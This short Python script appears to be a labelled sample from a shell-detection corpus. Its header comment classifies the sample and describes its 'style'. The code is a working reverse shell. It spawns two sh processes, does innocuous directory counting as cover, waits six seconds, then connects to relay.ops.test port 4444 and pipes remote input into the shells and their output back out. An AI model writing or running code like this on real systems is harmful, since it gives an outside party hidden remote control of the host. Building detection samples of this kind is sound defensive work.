# class: shell; possible: low medium; style: shells warmed up first, ordinary work, then the link
import os
import socket
import statistics
import subprocess
import threading
import time

pool = [subprocess.Popen(["sh"], stdin=-1, stdout=-1, stderr=-2, bufsize=0) for _ in range(2)]
series = [len(os.listdir(d)) for d in ("/", "/usr", "/etc") if os.path.isdir(d)]
print("mean", statistics.mean(series))
time.sleep(6)
link = socket.create_connection(("relay.ops.test", 4444), 15)
link.settimeout(None)


def back(source):
    while data := os.read(source.fileno(), 4096):
        link.sendall(data)


for p in pool:
    threading.Thread(target=back, args=(p.stdout,), daemon=True).start()
turn = 0
while data := link.recv(4096):
    os.write(pool[turn % 2].stdin.fileno(), data)
    turn += 1
